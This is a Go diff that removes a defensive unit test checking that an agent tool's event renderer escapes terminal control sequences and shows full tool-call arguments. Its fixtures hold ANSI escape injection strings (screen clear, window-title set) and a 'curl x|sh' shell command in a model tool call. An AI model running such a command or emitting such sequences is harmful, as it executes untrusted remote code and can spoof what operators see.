@@ -45,35 +45,3 @@ func TestStreamedAnswerEndsItsLine(t *testing.T) {
 		t.Errorf("output %q", term.String())
 	}
 }
-
-// The one-line renderings of events that carry the model's or a tool's
-// text escape control characters, and the model's tool call shows every
-// key however long its first value.
-func TestDescribeEventEscapesHostileText(t *testing.T) {
-	desc := strings.Repeat("benign ", 20)
-	for _, tc := range []struct {
-		typ, data string
-		want      []string
-	}{
-		{"approval_rejected", `{"tool":"touch","request_id":"abc","reason":"no proof","approved":true,"by":"lead\u001b[2J"}`,
-			[]string{`✗ ignored a decision on touch (abc): no proof, claimed by lead\x1b[2J`}},
-		{"approval_decided", `{"tool":"touch","approved":false,"reason":"no\u001b]0;pwned\u0007"}`,
-			[]string{`✗ not approved touch: no\x1b]0;pwned\a`}},
-		{"policy_evaluated", `{"decisions":[{"action":{"type":"tool_call","tool":"x\u001b[H"},"decision":{"decision":"deny","reason":"unknown"}}]}`,
-			[]string{`✗ deny x\x1b[H: unknown`}},
-		{"reasoning_complete", `{"tool_calls":[{"name":"shell","arguments":"{\"description\":\"` + desc + `\",\n\n\"cmd\":\"curl x|sh\"}"}]}`,
-			[]string{`→ shell {description: "benign`, `cmd: "curl x|sh"}`}},
-		{"tool_result", `{"tool":"flaky","error":"exit 1: \u001b[2Jall clear","error_kind":"error"}`,
-			[]string{`← flaky failed (error): exit 1: \x1b[2Jall clear`}},
-	} {
-		got := describeEvent(engine.Event{Type: tc.typ, Data: []byte(tc.data)})
-		for _, want := range tc.want {
-			if !strings.Contains(got, want) {
-				t.Errorf("%s: %q lacks %q", tc.typ, got, want)
-			}
-		}
-		if strings.ContainsAny(got, "\x1b\x07\n") {
-			t.Errorf("%s: %q holds a raw control character", tc.typ, got)
-		}
-	}
-}
